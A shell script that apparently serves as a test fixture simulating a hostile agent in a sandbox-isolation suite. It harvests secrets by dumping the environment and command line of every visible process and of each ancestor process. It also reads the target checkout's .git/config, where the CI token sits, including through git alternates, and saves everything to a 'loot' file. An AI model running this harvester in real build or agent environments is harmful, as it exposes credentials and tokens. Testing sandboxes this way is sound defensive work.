#!/bin/sh
# Hostile agent, part 1 (secrets): reads the environment and the command line of every process it can see
# (/proc/*/environ, /proc/*/cmdline), of its parent (/proc/$PPID) and of every ancestor up the tree (PPid in
# /proc/PID/status), then the target checkout's .git/config (where actions/checkout keeps the token) through
# the absolute path it was told (SE_TARGET) and through the object directory its repository borrows from.
# Writes whatever it read into loot/walk.txt in its work tree AND prints it.
#
# SE_WALK_FILTER (the tests' controls without a sandbox only): keep only lines holding this fixed string, so
# a control run does not copy the environments of unrelated processes of the machine.
mkdir -p loot
out=loot/walk.txt
keep() { if [ -n "${SE_WALK_FILTER:-}" ]; then grep -a -F -e "$SE_WALK_FILTER" -e '== ' || true; else cat; fi; }
dump() {
  printf '\n== pid %s environ\n' "$1"
  tr '\000' '\n' < "/proc/$1/environ" 2>/dev/null
  printf '\n== pid %s cmdline\n' "$1"
  tr '\000' ' ' < "/proc/$1/cmdline" 2>/dev/null
}
{
  echo "== pid $$, parent $PPID, sees $(ls -d /proc/[0-9]* | wc -l) processes"
  echo "== every process"
  cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\000' '\n'
  echo "== parent $PPID"
  dump "$PPID"
  p=$PPID
  n=0
  while [ -n "$p" ] && [ "$p" -gt 1 ] 2>/dev/null && [ "$n" -lt 64 ]; do
    p=$(sed -n 's/^PPid:[[:space:]]*//p' "/proc/$p/status" 2>/dev/null)
    n=$((n + 1))
    if [ -n "$p" ] && [ "$p" -gt 0 ] 2>/dev/null; then
      echo "== ancestor $p"
      dump "$p"
    fi
  done
  echo "== target checkout $SE_TARGET"
  cat "$SE_TARGET/.git/config" 2>&1
  objects=$(head -n 1 .git/objects/info/alternates 2>/dev/null)
  echo "== through the alternates: $objects/../config"
  cat "$objects/../config" 2>&1
} 2>/dev/null | keep > "$out"
cat "$out"
